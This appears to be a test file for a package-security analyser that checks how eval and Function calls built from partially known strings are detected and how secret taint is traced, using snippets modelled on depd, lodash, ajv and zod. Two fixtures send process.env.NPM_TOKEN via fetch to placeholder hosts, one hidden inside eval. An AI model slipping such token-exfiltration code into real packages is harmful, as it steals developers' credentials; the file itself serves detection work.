import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const techniques = (facts: Awaited<ReturnType<typeof analyze>>): string[][] => facts.obfuscations.map((o) => [o.technique, String(o.executed)]);

describe("code run from partially known strings", () => {
  it("depd's wrapfunction: eval of a function whose parameter list is unknown is analysed, not opaque", async () => {
    const facts = await analyze({
      "index.js": [
        'function createArgumentsString(arity) { for (var str = "", i = 0; i < arity; i++) str += ", arg" + i; return str.substr(2); }',
        "function wrap(fn, message) {",
        "  var args = createArgumentsString(fn.length), deprecate = this, site = [];",
        '  return eval("(function (" + args + ") {\\n\\"use strict\\"\\n log.call(deprecate, message, site)\\n return fn.apply(this, arguments)\\n})");',
        "}",
        "module.exports = wrap;",
      ].join("\n"),
    });
    expect(techniques(facts)).toEqual([["eval-decoded", "true"]]);
    expect(facts.obfuscations[0]!.note).toMatch(/partially known code \(1 unknown part\): \(function \(\*\)/);
    expect(facts.parseProblems).toEqual([]);
  });

  it("lodash _.template: Function(keys, sourceURL + 'return ' + source) with holes inside a declaration list", async () => {
    const facts = await analyze({
      "index.js": [
        "module.exports = function template(options, importsKeys, sourceURL) {",
        "  var source = \"function(\" + (options.variable || 'obj') + \") {\\n\" + \"var __t, __p = ''\" + (options.escape ? ', __e = _.escape' : '') + \";\\n\" + options.body + \"return __p\\n}\";",
        "  return Function(importsKeys, sourceURL + 'return ' + source).apply(undefined, []);",
        "};",
      ].join("\n"),
    });
    expect(techniques(facts)).toEqual([["eval-decoded", "true"]]);
    expect(facts.obfuscations[0]!.note).toContain("builds a function from partially known code");
  });

  it("ajv-style generated validators and zod's JIT (unknown statements inside known code)", async () => {
    const ajv = await analyze({ "index.js": "module.exports = (names, src) => new Function(names, src + 'return validate');" });
    expect(techniques(ajv)).toEqual([["eval-decoded", "true"]]);
    const zod = await analyze({ "index.js": "module.exports = (body) => new Function('shape', 'return (input) => {\\n' + body + '\\n}');" });
    expect(techniques(zod)).toEqual([["eval-decoded", "true"]]);
    expect(zod.obfuscations[0]!.note).toContain("return (input) => { * }");
  });

  it("Function('return ' + name) variants of Function('return this')", async () => {
    const facts = await analyze({ "index.js": "module.exports = function (name) { return Function('return ' + name)(); };" });
    expect(techniques(facts)).toEqual([["eval-decoded", "true"]]);
  });

  it("a literal body with unknown parameter names is analysed without an obfuscation fact", async () => {
    const facts = await analyze({ "index.js": "module.exports = (params) => Function(params, 'return fetch(\"https://lit.example.invalid\", { body: process.env.NPM_TOKEN })');" });
    expect(facts.obfuscations).toEqual([]);
    expect(facts.sinks.map((s) => s.destination)).toEqual(["https://lit.example.invalid"]);
  });

  it("the unknown parts carry the string's taint into the analysed code", async () => {
    const facts = await analyze({ "index.js": "const t = process.env.NPM_TOKEN;\neval(\"fetch('https://hole.example.invalid/', { body: \" + t + \" })\");" });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://hole.example.invalid/ @index.js:2 (import)"]);
    expect(techniques(facts)).toEqual([["eval-decoded", "true"]]);
  });

  it("known text that is only a comment, or that parses with no substitution, stays eval-dynamic", async () => {
    const comment = await analyze({ "index.js": "module.exports = (code, url) => eval(code + '\\n//# sourceURL=' + url);" });
    expect(techniques(comment)).toEqual([["eval-dynamic", "true"]]);
    const broken = await analyze({ "index.js": "module.exports = (code) => eval(code + ')))(');" });
    expect(techniques(broken)).toEqual([["eval-dynamic", "true"]]);
    expect(broken.parseProblems).toEqual([]);
  });

  it("a '*' in the known text is text, not an unknown part", async () => {
    const facts = await analyze({ "index.js": "module.exports = (n) => Function('/* scale */ return ' + n + ' * 2');" });
    expect(techniques(facts)).toEqual([["eval-decoded", "true"]]);
    expect(facts.obfuscations[0]!.note).toContain("(1 unknown part)");
  });
});
